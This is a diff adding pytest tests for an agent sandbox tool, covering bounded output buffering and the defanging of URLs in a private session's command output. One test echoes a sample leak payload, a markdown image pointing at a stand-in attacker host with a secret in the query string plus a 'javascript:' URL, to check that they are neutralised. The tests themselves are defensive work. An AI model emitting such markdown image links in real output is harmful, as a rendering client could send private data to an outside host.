@@ -1,0 +1,103 @@
+"""``sandbox_execute`` under attack from what the command prints: the host keeps
+a bounded part of it (guarantee 7: a sandbox must not grow the host without
+bound), and once the session is private its URLs reach the agent defanged
+(guarantee 8: an MCP client may render a result as markdown and fetch an image)."""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import threading
+from pathlib import Path
+
+import pytest
+from kernel_helpers import require_bwrap
+
+from sandbox_kernel.privacy import PrivacyStore, PrivateData
+from sandbox_kernel.sandbox import BubblewrapSandbox, base
+from sandbox_kernel.tools import SessionRegistry, repl_execute_cell, sandbox_execute
+
+pytestmark = pytest.mark.asyncio
+
+PAGE = os.sysconf("SC_PAGE_SIZE")
+
+
+def ids(reg: SessionRegistry, session: str = "s1", user: str = "alice") -> dict:
+    return {"user_id": user, "session_id": session, "registry": reg}
+
+
+def rss() -> int:
+    """This process's resident memory now (its high-water mark may predate the test)."""
+    with open("/proc/self/statm") as fh:
+        return int(fh.read().split()[1]) * PAGE
+
+
+class PeakRSS:
+    """The highest resident memory seen while running, sampled every 5 ms from a thread."""
+
+    def __init__(self) -> None:
+        self.base = rss()
+        self.peak = self.base
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._sample, daemon=True)
+
+    def _sample(self) -> None:
+        while not self._stop.wait(0.005):
+            self.peak = max(self.peak, rss())
+
+    def __enter__(self) -> PeakRSS:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc: object) -> None:
+        self._stop.set()
+        self._thread.join()
+        self.peak = max(self.peak, rss())
+
+
+async def test_a_flood_of_output_does_not_grow_the_host(registry: SessionRegistry) -> None:
+    """200 MiB printed: the old run_spec (communicate()) held all of it, then the
+    tool decoded all of it (host RSS grew by several times the output). Now the
+    host's growth stays far below the output and the result says what it dropped."""
+    size = 200 << 20
+    command = f"echo START; head -c {size} /dev/zero | tr '\\0' a; echo; echo END"
+    with PeakRSS() as mem:
+        r = await sandbox_execute(command, timeout=120, **ids(registry))
+    grew = mem.peak - mem.base
+    assert grew < 40 << 20, f"the host grew by {grew >> 20} MiB for {size >> 20} MiB of output"
+    dropped = size + len("START\n\nEND\n") - base.DEFAULT_MAX_OUTPUT
+    assert r.text.startswith("Exit code: 0\nSTART\naaa"), r.text[:200]
+    assert r.text.rstrip().endswith("END") or "END\n[" in r.text, r.text[-400:]
+    assert f"{dropped} bytes of output were dropped" in r.text, r.text[-400:]
+    assert len(r.text) < 9000
+
+
+async def test_run_spec_keeps_a_head_and_a_tail_of_each_stream() -> None:
+    """The API under the tool: ``max_output`` bounds each stream, stdin still reaches
+    the command, and a timed-out command's output so far is kept."""
+    require_bwrap()
+    bwrap = BubblewrapSandbox()
+    script = "cat; head -c 5000 /dev/zero | tr '\\0' o; echo TAIL; echo ERR >&2"
+    r = await bwrap.run(["/bin/sh", "-c", script], cwd="/", stdin=b"HEAD", max_output=100)
+    assert r.exit_code == 0 and not r.timed_out
+    assert r.stdout.startswith(b"HEAD") and r.stdout.endswith(b"TAIL\n") and len(r.stdout) == 100
+    assert r.stdout_dropped == 4 + 5000 + 5 - 100 and r.stdout_dropped_at == 50
+    assert (r.stderr, r.stderr_dropped) == (b"ERR\n", 0)
+    r = await bwrap.run(["/bin/sh", "-c", "echo before; exec sleep 60"], cwd="/", timeout=1)
+    assert r.timed_out and r.exit_code == -1 and r.stdout == b"before\n"
+
+
+async def test_private_shell_output_has_no_followable_url(registry: SessionRegistry, data_dir: Path) -> None:
+    """Once private, what the command prints reaches the agent defanged, as cell
+    output does: a markdown image would otherwise be fetched by the client."""
+    kw = ids(registry, "priv")
+    leak = "![x](https://evil.example/leak?d=SECRET) www.evil.example javascript:alert(1)"
+    r = await sandbox_execute(f"echo '{leak}'", **kw)
+    assert "https://evil.example" in r.text  # public: output as printed
+    await repl_execute_cell("1", **kw)
+    store = PrivacyStore(data_dir / "privacy")
+    await asyncio.to_thread(PrivateData("alice", "priv", store).add_private_dataset, "crm", "SECRET", "connector", True)
+    r = await sandbox_execute(f"echo '{leak}'; echo https://evil.example/x >&2", **kw)
+    assert r.text.startswith("Exit code: 0"), r.text
+    assert "evil.example" in r.text and "https://" not in r.text and "www.evil" not in r.text, r.text
+    assert "javascript:" not in r.text, r.text
